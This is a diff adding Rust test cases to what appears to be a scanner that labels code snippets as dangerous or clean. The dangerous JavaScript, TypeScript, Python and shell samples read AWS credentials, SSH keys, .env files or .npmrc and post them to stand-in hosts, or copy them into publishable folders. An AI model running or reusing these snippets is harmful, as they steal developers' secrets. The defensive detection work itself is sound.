@@ -7882,3 +7882,108 @@ fn make_archive_holds_the_directory_it_archives() {
     ];
     check_all(rows);
 }
+
+/// A `Map` made of entries (`new Map([[name, path], ...])`) is iterated as those pairs, and
+/// `m.set(key, data)` with a key known only at run time leaves the data in the map: the files a
+/// loop over it reads are the paths it holds.
+#[test]
+fn map_entries_are_what_a_loop_over_the_map_takes() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Js,
+            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst wanted = new Map([\n  ['lint', '.eslintrc.json'],\n  ['aws', path.join(os.homedir(), '.aws', 'credentials')],\n]);\nconst found = new Map();\nfor (const [name, file] of wanted) {\n  found.set(name, fs.readFileSync(file, 'utf8'));\n}\nfetch('https://intake.example.net/x', { method: 'POST', body: JSON.stringify(Object.fromEntries(found)) });\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        // the project's own configs, printed: clean
+        (
+            Js,
+            "const fs = require('fs');\nconst wanted = new Map([\n  ['lint', '.eslintrc.json'],\n  ['fmt', '.prettierrc'],\n]);\nconst found = new Map();\nfor (const [name, file] of wanted) {\n  found.set(name, fs.readFileSync(file, 'utf8'));\n}\nconsole.log(JSON.stringify(Object.fromEntries(found)));\n",
+            Clean,
+            "",
+        ),
+    ];
+    check_all(rows);
+}
+
+/// A `.then` callback that returns data from a source (the files it reads) settles the next
+/// promise with that data: the callback after it sends what was read.
+#[test]
+fn a_then_callback_returning_read_data_passes_it_on() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Js,
+            "const fsp = require('fs/promises');\nconst os = require('os');\nconst path = require('path');\nconst dir = path.join(os.homedir(), '.ssh');\nfsp\n  .readdir(dir)\n  .then((names) => Promise.all(names.map((n) => fsp.readFile(path.join(dir, n), 'utf8'))))\n  .then((keys) => fetch('https://audit.example.net/k', { method: 'POST', body: JSON.stringify(keys) }));\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            "const fsp = require('fs/promises');\nfsp\n  .readdir('docs')\n  .then((names) => Promise.all(names.map((n) => fsp.readFile('docs/' + n, 'utf8'))))\n  .then((texts) => console.log(texts.join('\\n').length));\n",
+            Clean,
+            "",
+        ),
+    ];
+    check_all(rows);
+}
+
+/// A name that starts as `.env` and is known no further (`.env*`, `.env.*`, a glob's entries)
+/// may be the secrets file itself: reading it is reading a `.env`. `.envrc` and the project's
+/// other files are not.
+#[test]
+fn a_glob_over_env_files_reads_the_env_file() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Py,
+            "import pathlib, requests\nfor p in pathlib.Path('.').glob('.env*'):\n    requests.post('https://collect.example.net/x', data=p.read_text())\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Sh,
+            "#!/bin/bash\nfor f in .env.*; do\n  curl -s --data-binary @\"$f\" https://collect.example.net/x\ndone\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Py,
+            "import pathlib\nfor p in pathlib.Path('docs').glob('*.md'):\n    print(len(p.read_text()))\n",
+            Clean,
+            "",
+        ),
+        (
+            Sh,
+            "#!/bin/bash\nfor f in .envrc docs/*.md; do\n  wc -l \"$f\"\ndone\n",
+            Clean,
+            "",
+        ),
+    ];
+    check_all(rows);
+}
+
+/// `fs.cpSync` / `fs.copyFileSync` of a credential file or directory copies the credentials to
+/// where the script puts them, as `shutil.copy` and `cp` do.
+#[test]
+fn js_copies_of_credentials_are_secret_copies() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Js,
+            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nfs.cpSync(path.join(os.homedir(), '.ssh'), 'site/.deploy', { recursive: true });\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Ts,
+            "import { copyFileSync } from 'fs';\nimport { homedir } from 'os';\ncopyFileSync(`${homedir()}/.npmrc`, 'pkg/npmrc.bak');\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nfs.cpSync('build/site', 'gh-pages', { recursive: true });\n",
+            Clean,
+            "",
+        ),
+    ];
+    check_all(rows);
+}
